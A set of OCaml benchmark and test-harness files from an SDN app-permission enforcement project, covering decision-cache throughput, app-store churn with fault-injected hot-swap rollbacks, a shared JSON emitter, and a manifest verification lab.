    "Decision cache: checking throughput, hit rates, invalidation";
  let m = manifest () in
  let _, skewed =
    workload_section ~title:"skewed (64 distinct calls, 90% to hot 8)"
      ~trace:(skewed_trace ~base:(base_calls 64) ~n:65536)
      m
  in
  let _, uniform =
    workload_section
      ~title:"uniform (32768 distinct calls vs 16384-entry cache)"
      ~trace:(base_calls 32768) m
  in
  stateful_section ();
  let cold, warm = memo_section () in
  let module J = Bench_util.Json in
  Bench_util.write_json "BENCH_CACHE.json"
    (J.Obj
       [ ("bench", J.Str "decision-cache");
         ("manifest", J.Str "perm_gen large/insert (Figure-5 shape)");
         ( "workloads",
           J.Obj
             [ json_of_workload "skewed" skewed;
               json_of_workload "uniform" uniform ] );
         ( "memo_us",
           J.Obj
             [ ("cold", J.Float (cold *. 1e6));
               ("warm", J.Float (warm *. 1e6)) ] ) ]);
  Fmt.pr "@.%a" M.pp_cache_report ();
  Fmt.pr
    "@.note: the comparable shape against the paper is the hit rate and@.";
  Fmt.pr
    "      the cached-vs-interpreted ratio, not absolute throughput@."

(** Fast correctness gate for the tier-1 test path: no timing
    assertions, exits nonzero on any violated invariant. *)
let smoke () =
  Bench_util.hr "Decision cache: smoke";
  let m = manifest () in
  let failures = ref [] in
  let fail fmt = Printf.ksprintf (fun s -> failures := s :: !failures) fmt in
  (* 1. Cached and uncached engines agree call-for-call, with ownership
     recording ON so the stateful/generation path is exercised. *)
  let mk cache_size =
    Engine.create ?cache_size
      ~ownership:(Ownership.create ())
      ~app_name:(match cache_size with Some _ -> "smoke-cached" | None -> "smoke-raw")
      ~cookie:1 m
  in
  let cached = mk (Some 1024) and raw = mk None in
  let trace = skewed_trace ~base:(base_calls 64) ~n:4096 in
  Array.iteri
    (fun i call ->
      let a = Engine.check cached call and b = Engine.check raw call in
      if a <> b then fail "decision mismatch at call %d" i)
    trace;
  Fmt.pr "cached == uncached on %d stateful checks: %s@." (Array.length trace)
    (if !failures = [] then "ok" else "FAIL");
  (* 2. The skewed stateless workload actually hits. *)
  let e =
    Engine.create ~record_state:false ~cache_size:1024
      ~ownership:(Ownership.create ())
      ~app_name:"smoke-hitrate" ~cookie:1 m
  in
  Array.iter (fun c -> ignore (Engine.check e c)) trace;
  (match Engine.cache_stats e with
  | None -> fail "cache_stats missing on a cached engine"
  | Some s ->
    let rate = M.hit_rate s in
    Fmt.pr "skewed stateless hit rate: %.1f %%@." (100. *. rate);
    if rate <= 0.5 then fail "hit rate %.2f <= 0.5 on skewed workload" rate;
    (* Keep the artifact fresh from the tier-1 path too: the smoke
       gate has no timing section, so it records the shape that must
       not regress (agreement + hit rate) rather than throughput. *)
    let module J = Bench_util.Json in
    Bench_util.write_json "BENCH_CACHE.json"
      (J.Obj
         [ ("bench", J.Str "cache-smoke");
           ("checks", J.Int (Array.length trace));
           ("cached_equals_uncached", J.Bool (!failures = []));
           ("skewed_hit_rate", J.Float rate) ]));
  match !failures with
  | [] -> Fmt.pr "smoke ok@."
  | fs ->
    List.iter (fun f -> Fmt.epr "smoke FAILURE: %s@." f) fs;
    exit 1
