(* Market lab: app-store churn against a live deployment
   (docs/CHURN.md).

   Three phases, each checking a different face of the live-update
   subsystem's contract:

   1. {e Churn ground truth} — a seeded 1k-app lifecycle script
      ([Churn_gen]) runs through the {!Market} queue with faults
      disarmed while reader domains hammer a probe app's live checker
      under CBench-style flow-mod traffic.  Checks: the commit /
      rollback ledger matches the generator's own model {e exactly}
      (valid entries commit, invalid ones roll back, no slack); the
      ledger's epoch trace is clean (a commit advances the epoch by
      one, a rollback leaves it untouched); zero torn calls — every
      snapshot-pinned probe pair lands entirely on one epoch; the
      deployment stays {!Sdnshield.Epoch.consistent}; and both the
      delta and the whole-policy reconcile paths were taken.

   2. {e Swap latency} — the probe readers' per-decision latency
      during churn against a quiescent baseline measured by the same
      loop.  Gate: p99(churn) <= max(2 x p99(quiescent),
      p99(quiescent) + 20us) — hot-swaps may not stall the data path.

   3. {e Fault-armed churn} — the same script shape with the
      [Swap_verify] / [Swap_compile] / [Swap_publish] fault sites
      armed.  Checks: every injected mid-swap fault surfaces as a
      clean rollback (stage named, epoch untouched), the deployment
      stays consistent, and the pipeline recovers — a fresh install
      commits once disarmed.

   `market-lab` prints the full report; `market-smoke` is the tier-1
   gate (smaller volume, same invariants including the p99 bound, a
   watchdog turns a hang into exit 3). *)

open Shield_openflow
open Shield_controller
open Shield_workload
open Sdnshield

let insert_call ~nw_dst =
  Api.Install_flow
    ( 1,
      Flow_mod.add ~priority:100
        ~match_:
          (Match_fields.make ~dl_type:Types.Eth_ip
             ~nw_dst:(Match_fields.exact_ip (Types.ipv4_of_string nw_dst))
             ())
        ~actions:[ Action.Output 1 ] () )

(* The probe app alternates between grants on two disjoint /16s, so on
   any single epoch exactly one of the two probe calls is allowed: a
   torn evaluation (or a spurious absent window) shows up as an
   agreeing pair. *)
let probe_app = "probe"
let grant_src o =
  Printf.sprintf "PERM insert_flow LIMITING IP_DST 10.%d.0.0 MASK 255.255.0.0" o
let o1 = 1
let o2 = 2
let call_a = insert_call ~nw_dst:"10.1.0.1"
let call_b = insert_call ~nw_dst:"10.2.0.1"

(* A policy with one per-app boundary on the probe app: scripted
   app-NNN churn takes the delta reconcile path (their statements
   don't reach [probe]), while every probe flip takes the whole-policy
   path — the lab exercises and counts both.  The boundary admits
   [insert_flow], so intersection preserves the probe's /16 grants. *)
let lab_policy =
  "LET watched = APP probe\n\
   ASSERT watched <= { PERM read_statistics PERM insert_flow }"

type probe_tally = {
  torn : int Atomic.t;  (** Agreeing probe pairs on one snapshot. *)
  probes : int Atomic.t;  (** Snapshot-pinned probe pairs issued. *)
}

(** One reader: resolve the probe app's slot once per pair, time each
    decision, flag torn pairs.  Runs until [stop] (or [pairs] pairs
    when given); returns its latency histogram for merging. *)
let reader ?pairs ~(live : Api.checker) ~stop ~tally () =
  let h = Metrics.Histogram.create () in
  let resolve =
    match live.Api.snapshot with
    | Some f -> f
    | None -> invalid_arg "live checker must expose snapshot"
  in
  let timed_check ck call =
    let t0 = Unix.gettimeofday () in
    let d = ck.Api.check call in
    Metrics.Histogram.record h (Unix.gettimeofday () -. t0);
    d
  in
  let n = ref 0 in
  let budget_left () = match pairs with None -> true | Some p -> !n < p in
  while (not (Atomic.get stop)) && budget_left () do
    incr n;
    let ck = resolve () in
    let da = timed_check ck call_a and db = timed_check ck call_b in
    Atomic.incr tally.probes;
    (match (da, db) with
    | Api.Allow, Api.Deny _ | Api.Deny _, Api.Allow -> ()
    | _ -> Atomic.incr tally.torn)
  done;
  h

(** Replay a ledger, checking the epoch trace: a commit advances the
    global epoch by exactly one, a rollback reports the unchanged
    pre-transaction epoch.  Returns violations. *)
let check_epoch_trace ~label (txns : Market.txn list) =
  let failures = ref [] in
  let fail fmt = Printf.ksprintf (fun s -> failures := s :: !failures) fmt in
  let _final =
    List.fold_left
      (fun prev (t : Market.txn) ->
        match t.Market.outcome with
        | Market.Committed { epoch; _ } ->
          if epoch <> prev + 1 then
            fail "%s: txn %d committed epoch %d after epoch %d" label
              t.Market.id epoch prev;
          epoch
        | Market.Rolled_back { stage; epoch; _ } ->
          if epoch <> prev then
            fail "%s: txn %d rolled back (%s) but the epoch moved %d -> %d"
              label t.Market.id stage prev epoch;
          if stage = "" then fail "%s: txn %d rollback names no stage" label t.Market.id;
          prev)
      0 txns
  in
  !failures

(* Phase 1+2: scripted churn with concurrent probe readers ---------------- *)

let run_churn ~apps ~script_len ~flips ~quiescent_probes ~readers :
    string list * Bench_util.Json.t =
  let failures = ref [] in
  let fail fmt = Printf.ksprintf (fun s -> failures := s :: !failures) fmt in
  let t =
    match Epoch.create ~policy:lab_policy () with
    | Ok t -> t
    | Error e -> failwith ("lab policy rejected: " ^ e)
  in
  let sandbox = Sandbox.create () in
  let m = Epoch.market ~sandbox t in
  (* Probe app in, then the quiescent latency baseline: same reader
     loop, no churn. *)
  (match Market.submit m (Market.install probe_app (grant_src o1)) with
  | Market.Committed _ -> ()
  | Market.Rolled_back { stage; reason; _ } ->
    failwith (Printf.sprintf "probe install failed at %s: %s" stage reason));
  let live = Epoch.checker t probe_app in
  (* Quiescent baseline: the same reader loop, same domain setup, no
     churn — so the latency comparison isolates the swaps. *)
  let quiet_tally = { torn = Atomic.make 0; probes = Atomic.make 0 } in
  let quiet_h =
    Domain.join
      (Domain.spawn
         (reader ~pairs:quiescent_probes ~live ~stop:(Atomic.make false)
            ~tally:quiet_tally))
  in
  if Atomic.get quiet_tally.torn > 0 then
    fail "quiescent: %d torn pairs with no churn at all — checker bug"
      (Atomic.get quiet_tally.torn);
  (* Scripted churn: interleave probe-app flips so the readers race
     real hot-swaps, not just unrelated-app traffic. *)
  let script =
    Churn_gen.script ~seed:11 ~apps ~invalid_fraction:0.15 ~length:script_len ()
  in
  let stop = Atomic.make false in
  let tally = { torn = Atomic.make 0; probes = Atomic.make 0 } in
  let reader_domains =
    List.init readers (fun _ -> Domain.spawn (reader ~live ~stop ~tally))
  in
  let flip_every = max 1 (script_len / max 1 flips) in
  let expected = ref [] (* newest first: (id, should_commit) *) in
  let submitted = ref 0 in
  let submit_tracked req valid =
    incr submitted;
    expected := (!submitted, valid) :: !expected;
    ignore (Market.submit m req)
  in
  List.iteri
    (fun i (e : Churn_gen.entry) ->
      if i > 0 && i mod flip_every = 0 then
        submit_tracked
          (Market.upgrade probe_app
             (grant_src (if i / flip_every land 1 = 1 then o2 else o1)))
          true;
      submit_tracked e.Churn_gen.request e.Churn_gen.valid)
    script;
  Atomic.set stop true;
  let churn_h =
    List.fold_left
      (fun acc d -> Metrics.Histogram.merge acc (Domain.join d))
      (Metrics.Histogram.create ()) reader_domains
  in
  Market.shutdown m;
  (* Ground truth: the ledger (minus the probe install) must match the
     script's model exactly — commit where valid, rollback where not. *)
  let ledger = Market.history m in
  let scripted =
    match ledger with
    | _probe_install :: rest -> rest
    | [] -> []
  in
  let expected = List.rev !expected in
  if List.length scripted <> List.length expected then
    fail "churn: ledger has %d scripted txns, expected %d"
      (List.length scripted) (List.length expected);
  List.iteri
    (fun i (txn : Market.txn) ->
      match List.nth_opt expected i with
      | None -> ()
      | Some (_, valid) ->
        if Market.committed txn.Market.outcome <> valid then
          fail "churn: txn %d (%s %s) %s but the script says %s" txn.Market.id
            (Market.kind_to_string txn.Market.request.Market.kind)
            txn.Market.request.Market.app
            (if Market.committed txn.Market.outcome then "committed"
             else "rolled back")
            (if valid then "commit" else "rollback"))
    scripted;
  List.iter (fun f -> failures := f :: !failures) (check_epoch_trace ~label:"churn" ledger);
  if Atomic.get tally.torn > 0 then
    fail "churn: %d torn probe pairs out of %d — a call mixed two epochs"
      (Atomic.get tally.torn) (Atomic.get tally.probes);
  if Atomic.get tally.probes = 0 then
    fail "churn: readers issued no probes — the race was never exercised";
  if not (Epoch.consistent t) then
    fail "churn: deployment inconsistent after the script";
  let deltas, fulls = Epoch.reconcile_counts t in
  if deltas = 0 then fail "churn: the delta reconcile path was never taken";
  if fulls = 0 then fail "churn: the whole-policy reconcile path was never taken";
  let stats = Market.stats m in
  (* Latency gate: churn may not stall the data path. *)
  let p99_q = Metrics.Histogram.percentile quiet_h 99. in
  let p99_c = Metrics.Histogram.percentile churn_h 99. in
  let bound = Float.max (2. *. p99_q) (p99_q +. 20e-6) in
  if Float.is_finite p99_c && p99_c > bound then
    fail "churn: p99 %.1fus during swaps exceeds the bound %.1fus (quiescent %.1fus)"
      (p99_c *. 1e6) (bound *. 1e6) (p99_q *. 1e6);
  Bench_util.subhr "scripted churn under probe traffic";
  Fmt.pr "apps=%d script=%d (+%d probe flips) commits=%d rollbacks=%d@." apps
    script_len (!submitted - script_len) stats.Market.commits
    stats.Market.rollbacks;
  Fmt.pr "final epoch=%d live apps=%d reconciles: delta=%d full=%d@."
    (Epoch.epoch t)
    (List.length (Epoch.apps t))
    deltas fulls;
  Fmt.pr "probes: %d pinned pairs, %d torn; latency p50=%s p99=%s (quiescent p99=%s, bound=%s)@."
    (Atomic.get tally.probes) (Atomic.get tally.torn)
    (Bench_util.fmt_us (Metrics.Histogram.percentile churn_h 50.))
    (Bench_util.fmt_us p99_c) (Bench_util.fmt_us p99_q)
    (Bench_util.fmt_us bound);
  let module J = Bench_util.Json in
  let json =
    J.Obj
      [ ("phase", J.Str "churn");
        ("apps", J.Int apps);
        ("script", J.Int script_len);
        ("submitted", J.Int stats.Market.submitted);
        ("commits", J.Int stats.Market.commits);
        ("rollbacks", J.Int stats.Market.rollbacks);
        ("final_epoch", J.Int (Epoch.epoch t));
        ("live_apps", J.Int (List.length (Epoch.apps t)));
        ("reconcile_delta", J.Int deltas);
        ("reconcile_full", J.Int fulls);
        ("probe_pairs", J.Int (Atomic.get tally.probes));
        ("torn", J.Int (Atomic.get tally.torn));
        ("p99_quiescent_us", J.Float (p99_q *. 1e6));
        ("p99_churn_us", J.Float (p99_c *. 1e6));
        ("p99_bound_us", J.Float (bound *. 1e6)) ]
  in
  Epoch.close t;
  (!failures, json)

(* Phase 3: fault-armed churn --------------------------------------------- *)

let run_faulted ~apps ~script_len : string list * Bench_util.Json.t =
  let failures = ref [] in
  let fail fmt = Printf.ksprintf (fun s -> failures := s :: !failures) fmt in
  let t =
    match Epoch.create ~policy:"" () with
    | Ok t -> t
    | Error e -> failwith ("policy rejected: " ^ e)
  in
  let sandbox = Sandbox.create () in
  let m = Epoch.market ~sandbox t in
  let script = Churn_gen.script ~seed:23 ~apps ~length:script_len () in
  Faults.reset_counts ();
  Faults.configure ~seed:7 ~swap_verify:0.05 ~swap_compile:0.05
    ~swap_publish:0.05 ();
  Fun.protect ~finally:Faults.disarm (fun () ->
      List.iter
        (fun (e : Churn_gen.entry) -> ignore (Market.submit m e.Churn_gen.request))
        script);
  (* Every injected mid-swap fault must have surfaced as a clean
     rollback: stage named, epoch untouched, deployment consistent. *)
  let ledger = Market.history m in
  List.iter (fun f -> failures := f :: !failures)
    (check_epoch_trace ~label:"faulted" ledger);
  let stage_ok = [ "vet"; "reconcile"; "lint"; "verify"; "compile"; "publish" ] in
  List.iter
    (fun (txn : Market.txn) ->
      match txn.Market.outcome with
      | Market.Rolled_back { stage; _ } when not (List.mem stage stage_ok) ->
        fail "faulted: txn %d rolled back at unknown stage %S" txn.Market.id stage
      | _ -> ())
    ledger;
  let injected =
    Faults.injected Faults.Swap_verify
    + Faults.injected Faults.Swap_compile
    + Faults.injected Faults.Swap_publish
  in
  if injected = 0 then
    fail "faulted: no swap faults fired — the sites were never reached";
  if not (Epoch.consistent t) then
    fail "faulted: deployment inconsistent after injected rollbacks";
  let stats = Market.stats m in
  if stats.Market.rollbacks = 0 then
    fail "faulted: armed swap faults produced no rollbacks";
  (* Recovery: with the sites disarmed the pipeline serves again. *)
  (match Market.submit m (Market.install "recovery" (grant_src o1)) with
  | Market.Committed _ -> ()
  | Market.Rolled_back { stage; reason; _ } ->
    fail "faulted: post-disarm install failed at %s: %s" stage reason);
  (match (Epoch.checker t "recovery").Api.check call_a with
  | Api.Allow -> ()
  | Api.Deny _ -> fail "faulted: post-disarm grant does not serve");
  Market.shutdown m;
  Bench_util.subhr "fault-armed churn (swap sites at p=0.05)";
  Fmt.pr "script=%d commits=%d rollbacks=%d injected: verify=%d compile=%d publish=%d@."
    script_len stats.Market.commits stats.Market.rollbacks
    (Faults.injected Faults.Swap_verify)
    (Faults.injected Faults.Swap_compile)
    (Faults.injected Faults.Swap_publish);
  Fmt.pr "rollback notifications in the forensic fault log: %d@."
    (List.length
       (List.filter
          (fun (e : Sandbox.audit_entry) -> e.Sandbox.action = "market-rollback")
          (Forensics.fault_log sandbox)));
  let module J = Bench_util.Json in
  let json =
    J.Obj
      [ ("phase", J.Str "faulted");
        ("script", J.Int script_len);
        ("commits", J.Int stats.Market.commits);
        ("rollbacks", J.Int stats.Market.rollbacks);
        ("injected_verify", J.Int (Faults.injected Faults.Swap_verify));
        ("injected_compile", J.Int (Faults.injected Faults.Swap_compile));
        ("injected_publish", J.Int (Faults.injected Faults.Swap_publish));
        ("final_epoch", J.Int (Epoch.epoch t)) ]
  in
  Epoch.close t;
  (!failures, json)

(* Entry points ------------------------------------------------------------ *)

let arm_watchdog seconds =
  ignore
    (Thread.create
       (fun () ->
         Thread.delay seconds;
         Fmt.epr
           "market-lab WATCHDOG: still running after %.0fs — a transaction \
            or reader hung@."
           seconds;
         exit 3)
       ())

let emit_json ~gate phases =
  let module J = Bench_util.Json in
  Bench_util.write_json "BENCH_MARKET.json"
    (J.Obj [ ("bench", J.Str gate); ("phases", J.Arr phases) ])

let run_all ~gate ~apps ~script_len ~flips ~quiescent_probes ~faulted_len =
  let churn_failures, churn_json =
    run_churn ~apps ~script_len ~flips ~quiescent_probes ~readers:2
  in
  let fault_failures, fault_json = run_faulted ~apps:100 ~script_len:faulted_len in
  let failures = churn_failures @ fault_failures in
  emit_json ~gate [ churn_json; fault_json ];
  (match failures with
  | [] -> Fmt.pr "@.%s: churn, swap-latency and fault invariants all held@." gate
  | fs -> List.iter (fun f -> Fmt.epr "%s FAILURE: %s@." gate f) fs);
  if failures <> [] then exit 1

let run () =
  Bench_util.hr
    "Market lab: 1k-app churn, hot-swap consistency, rollback under faults";
  arm_watchdog 600.;
  run_all ~gate:"market-lab" ~apps:1000 ~script_len:3000 ~flips:200
    ~quiescent_probes:20_000 ~faulted_len:400

(** Tier-1 gate: same invariants (including the p99 bound), smaller
    volume. *)
let smoke () =
  Bench_util.hr "Market churn: smoke";
  arm_watchdog 180.;
  run_all ~gate:"market-smoke" ~apps:200 ~script_len:500 ~flips:60
    ~quiescent_probes:5_000 ~faulted_len:150
