(* Shared helpers for the benchmark harness: section headers, table
   printing, and a thin wrapper over Bechamel for the
   microbenchmarks. *)

open Bechamel
open Toolkit

let hr title =
  Fmt.pr "@.==================================================================@.";
  Fmt.pr "%s@." title;
  Fmt.pr "==================================================================@."

let subhr title = Fmt.pr "@.--- %s ---@." title

(** Print an aligned table: [header] row then [rows]. *)
let table header rows =
  let all = header :: rows in
  let cols = List.length header in
  let width c =
    List.fold_left (fun w row -> max w (String.length (List.nth row c))) 0 all
  in
  let widths = List.init cols width in
  let print_row row =
    List.iteri
      (fun c cell -> Fmt.pr "%-*s  " (List.nth widths c) cell)
      row;
    Fmt.pr "@."
  in
  print_row header;
  print_row (List.map (fun w -> String.make w '-') widths);
  List.iter print_row rows

(** Run a Bechamel test group; returns (name, ns/run) per test. *)
let run_bechamel ?(quota = 1.0) (test : Test.t) : (string * float) list =
  let ols =
    Analyze.ols ~bootstrap:0 ~r_square:true ~predictors:[| Measure.run |]
  in
  let instance = Instance.monotonic_clock in
  let cfg =
    Benchmark.cfg ~limit:3000 ~quota:(Time.second quota) ~stabilize:true ()
  in
  let raw = Benchmark.all cfg [ instance ] test in
  let results = Analyze.all ols instance raw in
  Hashtbl.fold
    (fun name ols acc ->
      match Analyze.OLS.estimates ols with
      | Some (est :: _) -> (name, est) :: acc
      | _ -> acc)
    results []
  |> List.sort compare

let ns_to_ops ns = 1e9 /. ns

let fmt_ops ns = Printf.sprintf "%.2f M ops/s" (ns_to_ops ns /. 1e6)
let fmt_ns ns = Printf.sprintf "%.0f ns" ns
let fmt_us s = Printf.sprintf "%.1f us" (s *. 1e6)

(** Wall-clock one thunk. *)
let timed f =
  let t0 = Unix.gettimeofday () in
  let r = f () in
  (r, Unix.gettimeofday () -. t0)

(* JSON emission ----------------------------------------------------------

   The labs persist their measurements as BENCH_*.json artifacts at the
   repo root so the perf trajectory is part of the tree, not just of a
   terminal scrollback.  No JSON library in the dependency set, so a
   minimal emitter lives here; every lab shares it. *)

module Json = struct
  type t =
    | Null
    | Bool of bool
    | Int of int
    | Float of float
    | Str of string
    | Arr of t list
    | Obj of (string * t) list

  let escape s =
    let b = Buffer.create (String.length s + 8) in
    String.iter
      (fun c ->
        match c with
        | '"' -> Buffer.add_string b "\\\""
        | '\\' -> Buffer.add_string b "\\\\"
        | '\n' -> Buffer.add_string b "\\n"
        | '\t' -> Buffer.add_string b "\\t"
        | '\r' -> Buffer.add_string b "\\r"
        | c when Char.code c < 0x20 ->
          Buffer.add_string b (Printf.sprintf "\\u%04x" (Char.code c))
        | c -> Buffer.add_char b c)
      s;
    Buffer.contents b

  let number f =
    (* JSON has no NaN/Infinity; a lab that produced one has a bug, but
       the artifact must still parse. *)
    if Float.is_finite f then Printf.sprintf "%.6g" f else "null"

  let rec pp ?(indent = 0) ppf t =
    let pad n = String.make n ' ' in
    match t with
    | Null -> Fmt.string ppf "null"
    | Bool b -> Fmt.pf ppf "%b" b
    | Int i -> Fmt.pf ppf "%d" i
    | Float f -> Fmt.string ppf (number f)
    | Str s -> Fmt.pf ppf "\"%s\"" (escape s)
    | Arr [] -> Fmt.string ppf "[]"
    | Arr items ->
      Fmt.pf ppf "[";
      List.iteri
        (fun i item ->
          Fmt.pf ppf "%s@\n%s%a"
            (if i = 0 then "" else ",")
            (pad (indent + 2))
            (pp ~indent:(indent + 2))
            item)
        items;
      Fmt.pf ppf "@\n%s]" (pad indent)
    | Obj [] -> Fmt.string ppf "{}"
    | Obj fields ->
      Fmt.pf ppf "{";
      List.iteri
        (fun i (k, v) ->
          Fmt.pf ppf "%s@\n%s\"%s\": %a"
            (if i = 0 then "" else ",")
            (pad (indent + 2))
            (escape k)
            (pp ~indent:(indent + 2))
            v)
        fields;
      Fmt.pf ppf "@\n%s}" (pad indent)

  let to_string t = Fmt.str "%a" (pp ~indent:0) t
end

(** Persist a lab's measurements.  [path] is relative to the directory
    the bench was launched from — the repo root for `dune exec
    bench/main.exe`. *)
let write_json path (j : Json.t) =
  let oc = open_out path in
  Fun.protect
    ~finally:(fun () -> close_out_noerr oc)
    (fun () ->
      output_string oc (Json.to_string j);
      output_char oc '\n');
  Fmt.pr "@.wrote %s@." path
