(* shield-verify lab: prove the certifier's contract on a known corpus
   (docs/VERIFY.md).

   Invariants checked against the examples/verify corpus:

   - the raw dirty manifest is Refuted, and every witness is
     semantically sound: replayed through [Filter_eval], the call is
     admitted by the manifest side and escapes the bound — and the
     certificate's own cross-check (the same witnesses through
     [Engine], [Compiled] and [Automaton]) agrees;
   - after reconciliation repairs the dirty manifest, the very same
     obligations certify — the paper's "repair produces a compliant
     manifest" claim, checked rather than assumed;
   - the clean corpus certifies as-is;
   - an exhausted budget degrades to Unverified — never to a false
     Certified, and never to an exception.

   `verify-lab` adds hostile-generator sweeps and a timing section;
   `verify-smoke` is the fast tier-1 gate wired into `dune runtest`.
   Both persist BENCH_VERIFY.json. *)

open Sdnshield
module Hostile = Shield_workload.Hostile_gen
module J = Bench_util.Json

let failures = ref []
let fail fmt = Printf.ksprintf (fun s -> failures := s :: !failures) fmt

(* The runtest rule runs from _build/default/bench; `dune exec
   bench/main.exe` usually runs from the repo root.  Try both. *)
let read_example name =
  let candidates =
    [ Filename.concat "examples/verify" name;
      Filename.concat "../examples/verify" name ]
  in
  match List.find_opt Sys.file_exists candidates with
  | None ->
    fail "corpus file %s not found (tried: %s)" name
      (String.concat ", " candidates);
    ""
  | Some path ->
    let ic = open_in_bin path in
    Fun.protect
      ~finally:(fun () -> close_in_noerr ic)
      (fun () -> really_input_string ic (in_channel_length ic))

let manifest_of ~what src =
  match Perm_parser.manifest_of_string src with
  | Ok m -> m
  | Error e ->
    fail "%s: manifest does not parse: %s" what e;
    []

let policy_of ~what src =
  match Policy_parser.of_string src with
  | Ok p -> p
  | Error e ->
    fail "%s: policy does not parse: %s" what e;
    []

let pure = Filter_eval.pure_env

(** Semantic soundness of one witness, re-established from scratch:
    the call must be admitted by the manifest side and (for boundary
    escapes) rejected by the bound, under [Filter_eval] itself. *)
let confirm_witness ~what (w : Verify.witness) =
  let attrs = Attrs.of_call w.Verify.call in
  let fl = Perm.filter_of w.Verify.admitted_by w.Verify.token in
  if not (Filter_eval.eval pure fl attrs) then
    fail "%s: witness call is NOT admitted by the manifest side" what;
  match w.Verify.escapes with
  | None -> ()
  | Some bound ->
    let fr = Perm.filter_of bound w.Verify.token in
    if Filter_eval.eval pure fr attrs then
      fail "%s: witness call does NOT escape the bound it refutes" what

let counterexamples (cert : Verify.certificate) =
  match cert.Verify.verdict with Verify.Refuted cs -> cs | _ -> []

(* Dirty corpus: refuted raw, certified after repair ------------------------- *)

let check_dirty_corpus () =
  let m = manifest_of ~what:"dirty.manifest" (read_example "dirty.manifest") in
  let p = policy_of ~what:"dirty.policy" (read_example "dirty.policy") in
  let apps = [ ("app", m) ] in
  let raw, raw_dt = Bench_util.timed (fun () -> Verify.verify ~apps p) in
  Fmt.pr "raw dirty manifest:      %s (%s)@."
    (Verify.verdict_label raw)
    (Bench_util.fmt_us raw_dt);
  (match raw.Verify.verdict with
  | Verify.Refuted cs ->
    List.iter
      (fun (c : Verify.counterexample) ->
        if c.Verify.witnesses = [] then
          fail "dirty: counterexample carries no witness";
        List.iter (confirm_witness ~what:"dirty") c.Verify.witnesses)
      cs;
    if raw.Verify.crosscheck.Verify.replayed = 0 then
      fail "dirty: refuted but no witness was replayed through the checkers";
    if not raw.Verify.crosscheck.Verify.checkers_agree then
      fail "dirty: Engine/Compiled/Automaton disagreed with Filter_eval: %s"
        (String.concat "; " raw.Verify.crosscheck.Verify.crosscheck_notes)
  | v ->
    fail "dirty: expected Refuted on the raw manifest, got %s"
      (match v with
      | Verify.Certified -> "Certified"
      | Verify.Unverified r -> "Unverified (" ^ r ^ ")"
      | Verify.Refuted _ -> assert false));
  (* Repair, then re-verify: reconciliation's output must certify. *)
  let report = Reconcile.run ~apps p in
  let repaired, rep_dt =
    Bench_util.timed (fun () -> Verify.verify_report p report)
  in
  Fmt.pr "reconciled dirty manifest: %s (%s)@."
    (Verify.verdict_label repaired)
    (Bench_util.fmt_us rep_dt);
  if not (Verify.certified repaired) then
    fail "dirty: reconciled manifest did not certify (%s)"
      (Verify.verdict_label repaired);
  (raw, raw_dt, rep_dt)

(* Clean corpus: certified as-is ---------------------------------------------- *)

let check_clean_corpus () =
  let m = manifest_of ~what:"clean.manifest" (read_example "clean.manifest") in
  let p = policy_of ~what:"clean.policy" (read_example "clean.policy") in
  let cert, dt =
    Bench_util.timed (fun () -> Verify.verify ~apps:[ ("app", m) ] p)
  in
  Fmt.pr "clean manifest:          %s (%s)@."
    (Verify.verdict_label cert)
    (Bench_util.fmt_us dt);
  if not (Verify.certified cert) then begin
    fail "clean: expected Certified, got %s" (Verify.verdict_label cert);
    Fmt.pr "%a@." Verify.pp_certificate cert
  end;
  dt

(* Budget degradation: Unverified, never a false Certified ------------------- *)

let check_budget_degradation () =
  let m = manifest_of ~what:"dirty.manifest" (read_example "dirty.manifest") in
  let p = policy_of ~what:"dirty.policy" (read_example "dirty.policy") in
  let limits = { Budget.default_limits with Budget.max_steps = 2 } in
  match Verify.verify ~limits ~apps:[ ("app", m) ] p with
  | cert ->
    Fmt.pr "exhausted budget:        %s@." (Verify.verdict_label cert);
    (match cert.Verify.verdict with
    | Verify.Certified ->
      fail "budget: an exhausted budget certified a violating manifest"
    | Verify.Refuted _ | Verify.Unverified _ -> ())
  | exception exn ->
    fail "budget: verify raised under an exhausted budget: %s"
      (Printexc.to_string exn)

(* Hostile sweep: never raises ------------------------------------------------ *)

let check_hostile ~seeds =
  for seed = 1 to seeds do
    let manifest_src, policy_src = Hostile.assertion_heavy ~seed in
    let what = Printf.sprintf "hostile assertion-heavy (seed %d)" seed in
    let m = manifest_of ~what manifest_src in
    let p = policy_of ~what policy_src in
    match Verify.verify ~apps:[ ("app", m) ] p with
    | (_ : Verify.certificate) -> ()
    | exception exn ->
      fail "%s: verify raised: %s" what (Printexc.to_string exn)
  done

(* Harness --------------------------------------------------------------------- *)

let arm_watchdog seconds =
  ignore
    (Thread.create
       (fun () ->
         Thread.delay seconds;
         Fmt.epr
           "verify-lab WATCHDOG: still running after %.0fs — verification \
            hung on the corpus@."
           seconds;
         exit 3)
       ())

let emit_json ~gate ~raw ~raw_dt ~rep_dt ~clean_dt =
  let s = Verify.stats () in
  let cexs = counterexamples raw in
  Bench_util.write_json "BENCH_VERIFY.json"
    (J.Obj
       [ ("bench", J.Str gate);
         ("corpus", J.Str "examples/verify dirty/clean");
         ( "verdicts",
           J.Obj
             [ ("certified", J.Int s.Verify.certified_n);
               ("refuted", J.Int s.Verify.refuted_n);
               ("unverified", J.Int s.Verify.unverified_n) ] );
         ("dirty_counterexamples", J.Int (List.length cexs));
         ( "dirty_witness_replays",
           J.Int raw.Verify.crosscheck.Verify.replayed );
         ( "checkers_agree",
           J.Bool raw.Verify.crosscheck.Verify.checkers_agree );
         ( "infer_consistent",
           J.Bool raw.Verify.crosscheck.Verify.infer_consistent );
         ( "timings_us",
           J.Obj
             [ ("dirty_raw", J.Float (raw_dt *. 1e6));
               ("dirty_reconciled", J.Float (rep_dt *. 1e6));
               ("clean", J.Float (clean_dt *. 1e6)) ] ) ])

let report_outcome ~gate failures =
  match failures with
  | [] ->
    Fmt.pr
      "%s ok: dirty refuted with confirmed witnesses, repair certifies, \
       clean certifies, budget degrades@."
      gate
  | fs ->
    List.iter (fun f -> Fmt.epr "%s FAILURE: %s@." gate f) fs;
    exit 1

let run_checks ~gate ~hostile_seeds =
  failures := [];
  Verify.reset_stats ();
  let raw, raw_dt, rep_dt = check_dirty_corpus () in
  let clean_dt = check_clean_corpus () in
  check_budget_degradation ();
  if hostile_seeds > 0 then check_hostile ~seeds:hostile_seeds;
  emit_json ~gate ~raw ~raw_dt ~rep_dt ~clean_dt;
  !failures

let run () =
  Bench_util.hr "shield-verify: certification on the dirty/clean corpus";
  arm_watchdog 300.;
  report_outcome ~gate:"verify-lab" (run_checks ~gate:"verify-lab" ~hostile_seeds:12)

(** Tier-1 gate: same invariants, smaller hostile sweep. *)
